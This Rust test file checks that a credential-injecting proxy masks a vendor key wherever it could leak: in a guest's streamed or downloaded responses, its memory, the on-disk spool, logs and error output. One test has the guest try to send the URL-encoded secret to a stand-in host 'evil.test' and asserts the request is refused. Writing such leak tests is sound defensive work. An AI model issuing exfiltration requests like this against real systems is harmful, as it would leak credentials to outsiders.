//! Promise: a vendor that gives a key back, in whatever encoding and in pieces of whatever size, gives it neither to a guest that
//! streams the answer with `open` or keeps it with `download`, nor to the spool on the disk.

use crate::canary::{CANARY, clean_run, needles};
use portcullis_tests::{
    Project, Vendor,
    case::{Case, SLOT, http, is_denied, order},
    vendor::{Next, contains},
    wait_for,
};
use serde_json::{Value, json};
use std::collections::HashSet;

/// Pieces in which the answer comes, in bytes.
const PIECES: [usize; 5] = [1, 7, 64, 1_000, 1 << 20];
/// The size in which a guest reads, and in which the host looks.
const BORDER: usize = 64 << 10;
/// So many characters in a row are a leak.
const PART: usize = 8;

/// What stands in its place.
const MASKED: &str = "********";

/// Every encoding among words; `large`: across borders of 64 KiB as well.
fn body(large: bool) -> Vec<u8> {
    let mut body = b"what you sent was ".to_vec();
    for (n, (_, needle)) in needles().iter().enumerate() {
        if large {
            let border = (body.len() / BORDER + 1) * BORDER;
            body.resize(border - 1 - n % (needle.len() - 1), b'.');
        }
        body.extend_from_slice(needle);
        body.extend_from_slice(b" and ");
    }
    body
}

/// `/v1/PIECE/large` or `/v1/PIECE/small`
fn vendor() -> Vendor {
    Vendor::tls(&["api.vendor.test"], |asked, wire| {
        let mut parts = asked.path().trim_start_matches("/v1/").split('/');
        let piece = parts.next().unwrap_or_default().parse().unwrap_or(1 << 20);
        let mut answer =
            b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n".to_vec();
        let _left = wire.write_all(&answer).and_then(|()| wire.flush());
        for part in body(parts.next() == Some("large")).chunks(piece) {
            answer = format!("{:x}\r\n", part.len()).into_bytes();
            answer.extend_from_slice(part);
            answer.extend_from_slice(b"\r\n");
            // Each piece is a record of its own, so that it arrives as one.
            let _left = wire.write_all(&answer).and_then(|()| wire.flush());
        }
        let _left = wire.write_all(b"0\r\n\r\n");
        Next::Keep
    })
}

fn project(vendor: &Vendor) -> Project {
    let case = Case {
        manifest: format!("{SLOT}{}", http(&["GET https://api.vendor.test/v1/**"], "credential = \"key\"")),
        more: "capture = \"all\"".to_owned(),
        limits: "timeout = \"60s\"\ncpu = \"60s\"\nmemory = \"128MiB\"".to_owned(),
        ..Case::default()
    };
    case.bearer().to(vendor, &["api.vendor.test"]).approved_with(CANARY)
}

fn asked(by: &str, piece: usize, size: &str) -> Value {
    let url = format!("https://api.vendor.test/v1/{piece}/{size}");
    json!({"method": "GET", "url": url, "by": by, "keep": true})
}

/// No part of the secret, in no encoding.
#[track_caller]
fn nowhere(sink: &str, bytes: &[u8]) {
    let known = needles();
    let parts: HashSet<&[u8]> = known.iter().flat_map(|(_, needle)| needle.windows(PART)).collect();
    // Most places are told by two bytes: bodies are long.
    let pair = |window: &[u8]| usize::from(window[0]) << 8 | usize::from(window[1]);
    let mut begins = vec![false; 1 << 16];
    parts.iter().for_each(|part| begins[pair(part)] = true);
    if let Some(found) = bytes.windows(PART).find(|window| begins[pair(window)] && parts.contains(window)) {
        panic!("`{}` stands in {sink}", String::from_utf8_lossy(found));
    }
}

#[test]
fn what_a_guest_streams_or_keeps_holds_no_part_of_it() {
    let vendor = vendor();
    let project = project(&vendor);
    // The search finds what is there.
    let plain = body(false);
    assert!(std::panic::catch_unwind(|| nowhere("the vendor's answer", &plain)).is_err());
    for by in ["open", "download"] {
        for piece in PIECES {
            // A piece of a byte is a record of TLS: the small body is enough of them.
            let size = if piece < 64 { "small" } else { "large" };
            let what = format!("{by}, {size} in pieces of {piece}");
            let (ran, report) =
                project.call("probe", "send-each", &json!({"requests": [asked(by, piece, size)]}));
            let answer = &report["output"][0];
            assert_eq!(answer["status"], 200, "{what}: {report:#}");
            let got = answer["body"].as_str().expect("the body");
            assert_eq!(got.len(), body(size == "large").len(), "{what}: masked with its length");
            assert!(got.contains(MASKED), "{what}: the answer came");
            nowhere(&what, got.as_bytes());
            nowhere(&what, [ran.stdout, ran.stderr].concat().as_bytes());
        }
    }
    assert!(vendor.saw(CANARY.as_bytes()), "the secret was sent");
    for (path, bytes) in project.bytes_below("data") {
        nowhere(&path.display().to_string(), &bytes);
    }
}

#[test]
fn the_guests_memory_holds_none_of_it_after_open_and_download() {
    let vendor = vendor();
    let project = project(&vendor);
    let scan = |by: &str, needles: &[(String, Vec<u8>)]| {
        let halves: Vec<Value> = needles
            .iter()
            .map(|(_, needle)| {
                let (first, second) = needle.split_at(needle.len() / 2);
                json!([String::from_utf8_lossy(first), String::from_utf8_lossy(second)])
            })
            .collect();
        let order = json!({"halves": halves, "before": asked(by, 1_000, "small")});
        let (_, report) = project.call("probe", "memory-scan", &order);
        assert_eq!(report["output"]["before"], 200, "{by}: {report:#}");
        report["output"]["found"].as_u64().unwrap()
    };
    for by in ["open", "download"] {
        let words = [(String::new(), b"what you sent was ".to_vec())];
        assert!(scan(by, &words) > 0, "{by}: what is no secret is found, so the search works");
        assert_eq!(scan(by, &needles()), 0, "{by}");
    }
}

#[test]
fn the_spool_holds_no_part_of_it() {
    let vendor = vendor();
    let project = project(&vendor);
    for piece in [64, 1_000, 1 << 20] {
        let requests = json!([asked("download", piece, "large")]);
        // Ends by SIGKILL, with its blob where it lay.
        let running = project.spawn(&[
            "call",
            "probe",
            "send-then",
            &json!({"requests": requests, "then": "spin"}).to_string(),
        ]);
        let whole = body(true).len();
        let spooled = || {
            let files = project.bytes_below("data/spool");
            files.into_iter().find(|(_, bytes)| bytes.len() >= whole)
        };
        let (path, bytes) = wait_for("the whole answer in the spool", spooled);
        assert_eq!(bytes.len(), whole, "masked with its length");
        assert!(contains(&bytes, MASKED.as_bytes()), "the answer came");
        nowhere(&path.display().to_string(), &bytes);
        clean_run("a killed call", &running.kill());
        for (path, bytes) in project.bytes_below("data") {
            nowhere(&path.display().to_string(), &bytes);
        }
    }
}

/// Somebody gave the guest the secret itself: what it asks for and says is stored and shown without it, also before the first
/// request that needs it.
#[test]
fn what_a_guest_was_given_is_in_no_row_of_a_refusal_and_in_no_failure() {
    const GIVEN: &str = "CanaryGiven/9f+Zq=17";
    const ENCODED: &str = "CanaryGiven%2F9f%2BZq%3D17";
    let manifest = format!("{SLOT}{}", http(&["GET https://api.vendor.test/v1/**"], "credential = \"key\""));
    let project = Case { manifest, ..Case::default().bearer() }.approved_with(GIVEN);
    for url in [format!("http://evil.test/{ENCODED}"), format!("https://api.vendor.test/own/{ENCODED}")] {
        assert!(is_denied(&project.send(&order("GET", &url))));
    }
    // Cut at its `/` by what reads a URL: no half of it is told either.
    for url in [format!("https://api.vendor.test/{GIVEN}"), format!("https://api.vendor.test:{GIVEN}")] {
        project.send(&order("GET", &url));
    }
    assert!(is_denied(&project.send(&order(ENCODED, "https://api.vendor.test/v1/x"))));
    assert!(is_denied(&project.send(&order(&GIVEN.repeat(9), "https://api.vendor.test/v1/x"))));
    let line = json!({"level": "error", "message": format!("it said {GIVEN}, and {ENCODED}")});
    let (logged, _) = project.call("probe", "log", &line);
    assert!(logged.stderr.contains("it said"), "{}", logged.stderr);
    let words = json!({"kind": "unavailable", "message": format!("vendor said {GIVEN}")});
    let (ran, _) = project.call("probe", "fail", &words);
    let mut shown = vec![format!("{}{}", ran.stdout, ran.stderr), logged.stderr.clone()];
    for args in
        [&["logs"][..], &["logs", "--har"], &["denials"], &["runs"], &["--json", "runs"], &["--json", "logs"]]
    {
        let ran = project.run(args);
        shown.push(format!("{}{}", ran.stdout, ran.stderr));
    }
    for text in shown {
        assert!(!text.contains("CanaryGiv") && !text.contains("9f+Zq"), "{text}");
    }
    // What a run was given is kept whole in the other database, as its documentation says.
    let rows = project
        .bytes_below("data")
        .into_iter()
        .filter(|(path, _)| path.display().to_string().contains("exchanges.db"));
    for (path, bytes) in rows {
        assert!(!bytes.windows(11).any(|window| window == b"CanaryGiven"), "{}", path.display());
    }
}
